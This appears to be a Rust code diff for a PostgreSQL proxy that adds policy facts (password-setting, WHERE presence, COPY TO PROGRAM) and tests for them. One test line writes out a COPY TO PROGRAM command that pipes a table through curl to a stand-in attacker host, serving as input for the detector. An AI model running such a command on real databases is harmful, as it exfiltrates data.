@@ -34,6 +34,35 @@ pub struct Statement {
     pub fingerprint: Option<String>,
     /// Says nothing about the data (see [`crate::noise`]).
     pub noise: bool,
+    /// Facts policy rules decide on; all false when the text did not parse.
+    pub traits: Traits,
+}
+
+/// Properties of a statement that the proxy's policy checks (deny rules, password
+/// restriction). Same-shape statements share them, so they are cached with the shape.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct Traits {
+    /// CREATE/ALTER ROLE or USER with a PASSWORD (psql's `\password` sends ALTER USER).
+    pub sets_password: bool,
+    /// A top-level UPDATE, DELETE or SELECT with a WHERE clause (also `WHERE CURRENT OF`).
+    pub has_where: bool,
+    /// COPY ... TO/FROM PROGRAM: runs a shell command on the database server.
+    pub copy_program: bool,
+}
+
+fn traits_of(node: &NodeEnum) -> Traits {
+    let has_password = |options: &[pg_query::Node]| {
+        options.iter().any(|o| matches!(o.node.as_ref(), Some(NodeEnum::DefElem(d)) if d.defname == "password"))
+    };
+    match node {
+        NodeEnum::CreateRoleStmt(s) => Traits { sets_password: has_password(&s.options), ..Traits::default() },
+        NodeEnum::AlterRoleStmt(s) => Traits { sets_password: has_password(&s.options), ..Traits::default() },
+        NodeEnum::UpdateStmt(s) => Traits { has_where: s.where_clause.is_some(), ..Traits::default() },
+        NodeEnum::DeleteStmt(s) => Traits { has_where: s.where_clause.is_some(), ..Traits::default() },
+        NodeEnum::SelectStmt(s) => Traits { has_where: s.where_clause.is_some(), ..Traits::default() },
+        NodeEnum::CopyStmt(s) => Traits { copy_program: s.is_program, ..Traits::default() },
+        _ => Traits::default(),
+    }
 }
 
 /// The statements of one Query or Parse text.
@@ -191,6 +220,7 @@ fn unparsed(sql: &str) -> Statement {
         objects: Vec::new(),
         fingerprint: None,
         noise: false,
+        traits: Traits::default(),
     }
 }
 
@@ -205,6 +235,7 @@ fn classify_statement(text: &str, node: &NodeEnum, options: ParserOptions) -> St
     let fingerprint = pg_query::fingerprint(text, options, 0).ok().map(|f| f.hex);
     let text = if is_role_command(Some(&command)) { redact_passwords(text) } else { text.to_owned() };
     let noise = crate::noise::is_noise(node);
+    let traits = traits_of(node);
     Statement {
         text,
         command: Some(command),
@@ -214,6 +245,7 @@ fn classify_statement(text: &str, node: &NodeEnum, options: ParserOptions) -> St
         objects,
         fingerprint,
         noise,
+        traits,
     }
 }
 
@@ -440,6 +472,24 @@ mod tests {
         let bad = one("CREATE ROLE app PASSWORD 'secret' NOSUCHOPTION");
         assert_eq!(bad.command, None);
         assert!(!bad.text.contains("secret"), "{}", bad.text);
+    }
+
+    #[test]
+    fn traits_for_policy() {
+        let c = Classifier::default();
+        let traits = |sql: &str| c.classify(sql).statements[0].traits;
+        assert!(traits("ALTER USER alice PASSWORD 'SCRAM-SHA-256$4096:abc'").sets_password);
+        assert!(traits("CREATE ROLE r LOGIN PASSWORD 'x'").sets_password);
+        assert!(traits("alter role r with encrypted password 'x' valid until 'infinity'").sets_password);
+        assert!(!traits("ALTER ROLE r NOLOGIN").sets_password);
+        assert!(!traits("ALTER ROLE r SET search_path = public").sets_password);
+        assert!(traits("UPDATE accounts SET x = 1 WHERE id = 2").has_where);
+        assert!(!traits("UPDATE accounts SET x = 1").has_where);
+        assert!(!traits("WITH d AS (SELECT 1) DELETE FROM accounts").has_where);
+        assert!(traits("DELETE FROM accounts WHERE CURRENT OF c").has_where);
+        assert!(traits("COPY accounts TO PROGRAM 'curl -d @- evil.example'").copy_program);
+        assert!(!traits("COPY accounts TO STDOUT").copy_program);
+        assert_eq!(traits("not sql at all"), Traits::default());
     }
 
     #[test]
